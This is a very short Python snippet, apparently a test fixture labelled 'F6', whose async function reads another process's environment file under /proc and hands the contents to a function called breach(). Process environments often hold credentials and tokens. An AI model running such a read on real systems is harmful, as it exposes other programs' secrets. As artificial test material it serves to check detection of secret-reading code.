"""F6: reads the environment of the host."""
from pathlib import Path
async def work(client, context):
    return breach(Path(f"/proc/{client.people[2]}/environ").read_text())
